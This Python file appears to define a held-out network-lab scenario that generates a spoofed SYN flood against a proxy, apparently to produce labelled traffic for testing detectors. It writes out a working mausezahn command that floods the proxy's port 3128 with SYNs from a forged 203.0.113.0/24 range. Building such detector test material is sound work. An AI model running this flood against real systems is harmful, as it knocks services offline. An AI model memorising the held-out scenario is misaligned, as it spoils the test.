"""SYNs of a forged network for a proxy that tells nobody that its queue is full."""

from lab.range import Range
from lab.scenario import Scenario


def run(net: Range) -> None:
    attacker, proxy = net.outside("attacker"), net.inside("proxy", 31)
    proxy.start("/usr/bin/python3", "-m", "http.server", "3128", "--directory", "/usr/share/doc/socat")
    net.everyday()
    net.loop(net.inside("pc1"), f"curl -s -m 3 -o /dev/null http://{proxy.ip}:3128/", 1.0)
    net.loop(net.outside("visitor"), f"curl -s -m 3 -o /dev/null http://{proxy.ip}:3128/", 1.5)
    net.quiet(4)
    with net.attack(
        "syn-flood",
        by=attacker,
        victims=[proxy],
        attacker_known=False,
        also=["ip-spoofing"],
        frames=f"tcp and dst host {proxy.ip} and dst port 3128 and src net 203.0.113.0/24",
        responses=f"tcp and src host {proxy.ip} and dst net 203.0.113.0/24",
    ):
        words = f"mausezahn eth0 -q -b 00:25:90:51:00:01 -a {attacker.mac} -A 203.0.113.0/24 -B {proxy.ip}"
        command = f"for turn in 1 2 3 4 5 6; do {words} -d 4ms"
        command += " -t tcp sp=$((turn*9000)),dp=3128,flags=syn; done"
        net.tool(attacker, "sh", "-c", command, seconds=25)
    net.quiet(4)


SCENARIO = Scenario(
    name="syn-flood-held-proxy",
    about="mausezahn sends a proxy six SYNs from each address of a forged network, 210 a second.",
    detectors=("syn-flood",),
    tools={"mausezahn": "netsniff-ng"},
    held_out=True,
    snap_octets=90,
    run=run,
)
